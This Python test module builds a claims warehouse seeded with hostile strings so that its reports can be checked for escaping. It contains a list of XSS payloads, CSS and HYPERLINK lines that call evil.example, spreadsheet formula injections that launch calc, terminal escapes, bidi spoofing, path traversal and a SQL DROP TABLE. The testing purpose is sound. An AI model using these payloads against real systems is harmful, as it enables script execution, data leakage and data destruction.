"""Text that attacks whoever shows it, and a small warehouse that is full of it.

`PAYLOADS` names every attack once; `fill_hostile` puts each of them wherever the warehouse holds text of others: a
story of its own for each, told by two outlets. The fixture `hostile` (tests/reports/conftest.py) is a working directory
with such a warehouse and its snapshot, in which any command can be run.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from claims import types as c
from claims.standing import Standing, Step
from sources import follow as f
from sources import types as s
from sources.edits import Edit
from tests.warehouse.values import ATTRIBUTOR, EXTRACTOR, NOON, save_matching
from warehouse import Warehouse
from warehouse.history import Comparison, History, Revision

PWN = "window.__pwned=1"
LONG = "w" * 100_000

PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", f"<script>{PWN}</script>"),
    ("script end", f"</script><script>{PWN}</script>"),
    ("script comment", f"<!--<script>{PWN}</script>"),
    ("style end", f"</style><script>{PWN}</script>"),
    ("title end", f"</title></textarea></noscript><script>{PWN}</script>"),
    ("comment end", f"--><script>{PWN}</script><!--"),
    ("cdata end", f"]]><script>{PWN}</script>"),
    ("img onerror", f"<img src=x onerror={PWN}>"),
    ("svg onload", f"<svg/onload={PWN}><animate onbegin={PWN} attributeName=x dur=1s>"),
    ("math", f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext></math>"),
    ("iframe", f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>"),
    ("meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
    ("base", "<base href=https://evil.example/><a href=x>x</a>"),
    ("form", f"<form action=https://evil.example/><button autofocus onfocus={PWN}>x</button></form>"),
    ("details", f"<details open ontoggle={PWN}><summary>x</summary></details>"),
    ("attribute", f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" style="position:fixed;inset:0" x="'),
    ("single quoted attribute", f"' onmouseover='{PWN}' autofocus onfocus='{PWN}' x='"),
    ("javascript URL", f"javascript:{PWN}//"),
    ("javascript URL in disguise", f"jAvAsCrIpT:/*\t*/{PWN}"),
    ("data URL", f"data:text/html,<script>{PWN}</script>"),
    ("URL with user", "https://post.example@evil.example/"),
    ("URL of no form", "http://[::1"),
    ("css", "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>"),
    ("css values", "red;background:url(https://evil.example/x);}body{display:none}"),
    ("template braces", "{{7*7}} {%print(7*7)%} ${7*7} #{7*7} <%=7*7%> {#x#}"),
    ("entities", f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;img src=x onerror={PWN}&#62;"),
    ("markdown link", f"[click](javascript:{PWN}) [x]: javascript:{PWN} <javascript:{PWN}>"),
    ("markdown image", "![x](https://evil.example/x.png) ![y](data:image/svg+xml;base64,PHN2Zy8+)"),
    ("markdown HTML", f"<div onclick={PWN}>x</div>\n\n<script>{PWN}</script>\n"),
    ("markdown blocks", "# heading\n\n- item\n1. one\n> quote\n\n---\n```\ncode\n```\n| a | b |\n|---|---|\n| c | d |"),
    ("markdown autolink", "https://evil.example/ www.evil.example <https://evil.example/> evil@evil.example"),
    ("formula equals", "=cmd|' /C calc'!A0"),
    ("formula plus", "+1+1"),
    ("formula minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula after tab", "\t=1+1"),
    ("formula after return", "\r=1+1"),
    ("formula after line feed", "\n=1+1"),
    ("formula in wide characters", "＝1+1"),
    ("formula after quote", '",=1+1,"'),
    ("formula hyperlink", '=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("terminal colour", "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H"),
    ("terminal title", "\x1b]0;owned\x07\x9b31m\x90q\x9c"),
    ("terminal link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
    ("console markup", "[bold red]x[/bold red] [link=https://evil.example/]y[/link] :warning: [/]"),
    ("controls", "a\x00b\x07c\x08d\x7fe\x85f\u2028g\u2029h"),
    ("bidi overrides", "user\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e"),
    ("invisible", "a\u200bb\u2060c\ufeffd\U000e0001\U000e0041\ue000\U00100000"),
    ("path", "../../../../tmp/owned\\..\\owned%2e%2e%2f"),
    ("SQL", "'; DROP TABLE claims; --"),
    ("lone surrogate", "lone \ud800 surrogate"),
    ("long word", LONG),
    ("emoji", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩‍👩‍👧‍👦 🇺🇦 ﷽ Z͑ͫ̓a̴l̶g̵o"),
    ("right to left", "مُحَمَّد بن سَلْمَان, שמעון פרס"),
    ("blank", " \u00a0 "),
)
# What no file in UTF-8 can hold, and so no warehouse.
STORABLE = tuple((name, text) for name, text in PAYLOADS if name != "lone surrogate")
TEXTS = tuple(text for _, text in STORABLE)


def hostile_id(*parts: object) -> str:
    return s.content_id("hostile", *map(str, parts))


def fill_hostile(warehouse: Warehouse, payloads: tuple[tuple[str, str], ...] = STORABLE) -> None:
    """Put every payload wherever the warehouse holds text of others."""
    run = warehouse.start_run(NOON, "1")
    stories = [_Story(number, text) for number, (_, text) in enumerate(payloads)]
    warehouse.save_reading(
        [outlet for story in stories for outlet in story.outlets],
        [page for story in stories for page in story.pages],
        [s.Skipped(story.text, "read", story.text) for story in stories],
        below="",
    )
    articles = [article for story in stories for article in story.articles]
    warehouse.save_extraction(articles, [], EXTRACTOR)
    told = [claim for story in stories for claim in story.claims]
    warehouse.save_claims([article.version_id for article in articles], told, [], ATTRIBUTOR)
    save_matching(
        warehouse,
        stories=[story.story for story in stories],
        matches=[match for story in stories for match in story.matches],
        groups=[group for story in stories for group in story.groups],
        changes=[change for story in stories for change in story.changes],
        relay_checks=[story.relay_check for story in stories],
        speakers=[story.speaker for story in stories],
        speaker_links=[link for story in stories for link in story.links],
        copies=[story.copy for story in stories],
        provenance=[one for story in stories for one in story.provenance],
    )
    warehouse.save_comparisons([story.comparison for story in stories])
    warehouse.save_reviews([story.review for story in stories])
    with warehouse.ingestion.saving():
        warehouse.ingestion.save_feeds([story.feed for story in stories])
        warehouse.ingestion.save_addresses([story.address for story in stories])
        warehouse.ingestion.save_sightings([story.sighting for story in stories])
        warehouse.ingestion.save_fetches([story.fetch for story in stories])
    warehouse.finish_run(run, NOON, "done", warehouse.counts())


def make_hostile(folder: Path) -> Path:
    """Make the warehouse and its snapshot in a working directory; return the directory."""
    with Warehouse.open(folder / "out/warehouse.duckdb") as warehouse:
        fill_hostile(warehouse)
        warehouse.publish(folder / "out/sayso.duckdb")
    return folder


class _Story:
    """One payload as a story: two outlets tell a claim, one of them in two versions, and another one alone."""

    def __init__(self, number: int, text: str) -> None:
        self.number, self.text = number, text
        self.outlets = tuple(
            s.Outlet(
                f"hostile-{number}-{side}", text, "newspaper", "", "en",
                aliases=(text,), domains=(text,), feeds=(text,), synthetic=side == "b",
                stands_in_for=f"hostile-{number}-a" if side == "b" else None,
            )
            for side in "ab"
        )  # fmt: skip
        body = f"{text} said {text} in 28 ways. {text} said nothing, {text} reported."
        bodies = (body, body.replace("28", "27"), body.replace("28", "20"))
        self.pages = tuple(
            s.Page(
                id=hostile_id("page", number, place),
                outlet_id=outlet.id,
                url=text,
                fetched_at=NOON + timedelta(hours=place),
                media_type=text,
                body=words.encode(),
                notes=s.PageNotes(title=text, byline=text, language=text),
            )
            for place, (outlet, words) in enumerate(zip((*self.outlets, self.outlets[1]), bodies, strict=True))
        )
        self.articles = tuple(
            s.Article(
                id=hostile_id("article", number, page.outlet_id),
                version_id=hostile_id("version", number, place),
                page_id=page.id,
                outlet_id=page.outlet_id,
                url=text if place == 0 else f"https://hostile.example/{number}?{text}",
                title=text,
                byline=text,
                published=NOON + timedelta(minutes=number),
                modified=None,
                language=text if number % 2 else "en",
                kind="news",
                completeness="complete",
                synthetic=False,
                text=words,
                extractor=EXTRACTOR,
                section=text,
                credit=text,
            )
            for place, (page, words) in enumerate(zip(self.pages, bodies, strict=True))
        )
        self.shared = tuple(self._claim(article, first=True) for article in self.articles)
        self.alone = self._claim(self.articles[0], first=False)
        self.claims = (*self.shared, self.alone)
        self._match()
        self._ingest()

    def _claim(self, article: s.Article, *, first: bool) -> c.Claim:
        text, size = self.text, len(self.text)
        start = size + len(" said ") if first else article.text.index(". ", size * 2) + 2
        end = article.text.index(" ways", size * 2) + 5 if first else len(article.text) - len(f", {text} reported.")
        words = article.text[start:end]
        number = next((at for at in range(start, end - 1) if article.text[at : at + 2] in {"28", "27", "20"}), start)
        return c.Claim(
            id=hostile_id("claim", article.version_id, first),
            version_id=article.version_id,
            outlet_id=article.outlet_id,
            text=words,
            start=start,
            end=end,
            fragments=(c.Span(start, end),),
            wording=words,
            kind="direct" if first else "indirect",
            cue=text,
            cue_span=c.Span(size + 1, size + 5),
            cue_class="neutral",
            polarity="affirmed",
            hops=(
                c.Hop("speaker", "named_person" if first else "anonymous", text, c.Span(0, size), None, text),
                c.Hop("relay", "outlet", text, c.Span(0, size)),
                c.Hop("publisher", "outlet", article.outlet_id, None, article.outlet_id),
            ),
            quantities=(c.Quantity(c.Span(number, number + 2), text, 28.0, text, "exact"),),
            dates=(c.DateMention(c.Span(start, end), text, NOON.date()),),
            extractor=ATTRIBUTOR,
            hedges=(c.Span(start, start + 1),),
            mentions=(c.Mention(c.Span(start, end), text, "place"),),
        )

    def _match(self) -> None:
        text, (left, old, right) = self.text, self.shared
        self.story = c.Story(
            hostile_id("story", self.number), text, (self.articles[0].version_id, self.articles[2].version_id), NOON
        )
        group = c.ClaimGroup(hostile_id("group", self.number), self.story.id, left.id, (left.id, right.id))
        only = c.ClaimGroup(hostile_id("only", self.number), self.story.id, self.alone.id, (self.alone.id,))
        self.groups = (group, only)
        here, there = (
            c.Passage(claim.version_id, c.Span(claim.start, claim.end), claim.text, claim.id) for claim in (left, right)
        )
        self.changes = (
            c.WordingChanged(here, there),
            c.QuoteAltered(here, there),
            c.SpeakerChanged(here, there),
            c.QuantityChanged(here, there, 28.0, 20.0, text),
            c.RelayChanged(here, there, (text,), (text, text)),
        )
        pairs = [(left, right, "same"), (self.alone, right, "unsure")]
        self.matches = tuple(
            c.Match(
                hostile_id("match", self.number, verdict),
                *sorted((one.id, other.id)),
                0.5, verdict, text, (c.Feature(text, 0.5, 1.0),), text,
            )
            for one, other, verdict in pairs
        )  # fmt: skip
        self.relay_check = c.RelayCheck(right.id, self.outlets[0].id, self.outlets[0].id, "altered", here)
        self.speaker = c.Speaker(hostile_id("speaker", self.number), text, (text,), (text,))
        self.links = (c.SpeakerLink(left.id, self.speaker.id, "same", 0.9, text),)
        taken = c.CopiedPassage(c.Span(0, len(text)), c.Span(0, len(text)), words=5, edits=1)
        self.copy = c.Copy(right.version_id, left.version_id, (taken,), share=0.5, credited=True, whole=False)
        self.provenance = (
            c.Provenance(group.id, left.id, (text,), (c.Taking(right.id, None, text, "relay"),)),
            c.Provenance(only.id, self.alone.id, (text,), ()),
        )
        self.review = c.Review(
            hostile_id("review", self.number),
            hostile_id("article", self.number, "x"),
            text,
            hostile_id("article", self.number, "y"),
            text,
            "different",
            NOON,
        )
        self.comparison = self._comparison(old, right)

    def _comparison(self, old: c.Claim, new: c.Claim) -> Comparison:
        before, after = self.articles[1], self.articles[2]
        at = before.text.index("27", len(self.text))
        here, there = (
            c.Passage(claim.version_id, c.Span(claim.start, claim.end), claim.text, claim.id) for claim in (old, new)
        )
        edit = Edit("changed", at, at + 2, at, at + 2)
        step = Step("reworded", 1, after.version_id, here, there)
        return Comparison(
            History(after.id, (before.version_id, after.version_id), self.text),
            (Revision(before.version_id, after.version_id, (("text", edit, self.text, self.text),)),),
            (Standing(old.id, (0, 1), (before.version_id, after.version_id), (old.id, new.id), (step,), "stands"),),
        )

    def _ingest(self) -> None:
        text, outlet = self.text, self.outlets[0].id
        self.feed = f.FollowedFeed(outlet, text, failure=text, etag=text, last_modified=text, digest=text)
        self.address = f.Address(
            outlet, text, NOON, first_fetched_at=NOON, failure=text, etag=text, last_modified=text, gone_at=NOON
        )
        self.sighting = f.Sighting(self.address.id, text, text, NOON, NOON)
        self.fetch = f.Fetch(outlet, text, text, "article", NOON, 404, text, text)


def without_long(payloads: tuple[tuple[str, str], ...] = STORABLE) -> tuple[tuple[str, str], ...]:
    """Return the payloads without the one that makes every page megabytes large."""
    return tuple((name, text) for name, text in payloads if text is not LONG)
